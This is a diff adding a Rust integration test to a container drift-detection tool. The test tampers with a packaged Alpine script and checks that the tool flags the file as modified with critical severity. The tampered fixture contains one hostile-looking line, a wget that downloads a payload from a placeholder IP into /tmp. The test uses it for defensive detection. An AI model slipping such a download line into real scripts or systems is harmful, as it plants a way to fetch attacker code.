@@ -608,3 +608,64 @@ fn baseline_delta_and_warm_cache_keep_the_package_view() {
             .any(|f| f["code"] == "package-file-modified")
     );
 }
+
+/// Drift: a running container's packaged file that no longer matches its
+/// package is reported as such (the container's own package database is
+/// read from its root filesystem).
+#[test]
+fn drift_reports_a_container_file_that_no_longer_matches_its_package() {
+    let other = b"#!/bin/sh\necho hi\n";
+    let db = apk_pkg("other", "3.0-r1", &[("usr/bin", "other", other)]);
+    let img = ImageBuilder::new()
+        .layer(
+            LayerBuilder::new()
+                .file("lib/apk/db/installed", db.as_bytes(), 0o644)
+                .file("usr/bin/other", other, 0o755),
+        )
+        .build();
+    let (t, image) = layout(&img);
+    let root = t.path().join("rootfs");
+    for (p, bytes) in [
+        ("lib/apk/db/installed", db.as_bytes()),
+        (
+            "usr/bin/other",
+            b"#!/bin/sh\necho hi\nwget -O /tmp/p http://203.0.113.4/p\n",
+        ),
+    ] {
+        let f = root.join(p);
+        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+        std::fs::write(&f, bytes).unwrap();
+    }
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(
+        root.join("usr/bin/other"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    std::fs::set_permissions(
+        root.join("lib/apk/db/installed"),
+        std::fs::Permissions::from_mode(0o644),
+    )
+    .unwrap();
+    let out = stowaway(&[
+        "drift",
+        "--rootfs",
+        root.to_str().unwrap(),
+        "--image",
+        &image,
+        "--format",
+        "json",
+        "--db",
+        t.path().join("store.db").to_str().unwrap(),
+    ]);
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
+    let f = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["code"] == "package-file-modified")
+        .unwrap_or_else(|| panic!("{v:#}"));
+    assert_eq!(f["path"], "/usr/bin/other");
+    assert_eq!(f["severity"], "critical");
+}
